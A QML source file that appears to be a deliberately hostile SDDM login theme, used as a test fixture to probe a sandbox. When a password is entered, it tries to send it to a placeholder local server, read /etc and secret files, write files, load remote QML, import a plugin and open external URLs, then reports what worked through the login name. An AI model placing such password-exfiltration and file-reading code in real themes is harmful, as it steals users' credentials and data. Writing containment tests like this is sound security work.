// SPDX-License-Identifier: GPL-2.0-or-later
// Issue 14 §1: a hostile theme. Once a password is typed it tries every way out that QML
// offers and then logs in, with what it saw spelled into the user name (its console is not
// logged after the first frame): e<entries of /etc> s<entries of the secret dir>
// h<XMLHttpRequest http status> f<bytes read through file:> w<XHR PUT to file: status>
// l<Loader status of an http URL> d<1: LocalStorage wrote> p<1: a plugin module imported>
// o<URLs Qt.openUrlExternally said it took>. @PORT@, @SECRET_DIR@ and @EVIL@ are filled in by
// contain-probes-test.sh.
import QtQuick 2.15
import QtQuick.Window 2.15
import Qt.labs.folderlistmodel 2.15
Rectangle {
    id: root
    width: 1280
    height: 800
    color: "#302020"
    property string pw: ""
    property int httpStatus: -1
    property int fileBytes: -1
    property int putStatus: -1
    property int stored: 0
    property int plugin: 0
    property int opened: 0
    FolderListModel { id: etcList; showDirs: true; showHidden: true }
    FolderListModel { id: secretList; showDirs: true; showHidden: true }
    Loader { id: remote }

    function xhr(method, url, body, done) {
        var r = new XMLHttpRequest()
        r.onreadystatechange = function() {
            if (r.readyState === XMLHttpRequest.DONE)
                done(r)
        }
        try {
            r.open(method, url)
            r.send(body)
        } catch (e) {
            done(null)
        }
    }

    function probe() {
        report.start()
        etcList.folder = "file:///etc"
        secretList.folder = "file://@SECRET_DIR@"
        xhr("GET", "http://127.0.0.1:@PORT@/collect?pw=" + pw, null,
            function(r) { httpStatus = r ? r.status : -2 })
        xhr("GET", "file://@SECRET_DIR@/secret", null,
            function(r) { fileBytes = r ? r.responseText.length : -2 })
        xhr("PUT", "file://@SECRET_DIR@/put", pw,
            function(r) { putStatus = r ? r.status : -2 })
        try {
            remote.source = "http://127.0.0.1:@PORT@/x.qml?pw=" + pw
        } catch (e) {}
        try {
            Qt.createQmlObject('import QtQuick 2.15; import QtQuick.LocalStorage 2.15 as S; QtObject {'
                + ' Component.onCompleted: { var db = S.LocalStorage.openDatabaseSync("probe", "1.0", "p", 1000);'
                + ' db.transaction(function(tx) { tx.executeSql("CREATE TABLE IF NOT EXISTS t(p TEXT)");'
                + ' tx.executeSql("INSERT INTO t VALUES(?)", ["' + pw + '"]) }); root.stored = 1 } }',
                root, "probe-storage")
        } catch (e) {}
        try {
            Qt.createQmlObject('import "file://@EVIL@"; Evil {}', root, "probe-plugin")
            plugin = 1
        } catch (e) {}
        try {
            if (Qt.openUrlExternally("https://127.0.0.1:@PORT@/?pw=" + pw)) opened++
            if (Qt.openUrlExternally("file://@SECRET_DIR@/secret")) opened++
        } catch (e) {}
    }

    Timer {
        id: report
        interval: 2500
        onTriggered: sddm.login("e" + etcList.count + "s" + secretList.count + "h" + httpStatus
                                + "f" + fileBytes + "w" + putStatus + "l" + remote.status
                                + "d" + stored + "p" + plugin + "o" + opened + "@probe.example",
                                pw, sessionModel.lastIndex)
    }

    Rectangle {
        x: 440; y: 300; width: 400; height: 40
        color: "white"
        TextInput {
            id: password
            objectName: "password"
            anchors.fill: parent
            anchors.margins: 8
            echoMode: TextInput.Password
            focus: true
            Component.onCompleted: forceActiveFocus()
            Connections {
                target: password.Window.window
                function onActiveChanged() {
                    if (password.Window.window.active)
                        password.forceActiveFocus()
                }
            }
            onAccepted: { root.pw = text; root.probe() }
        }
    }
}
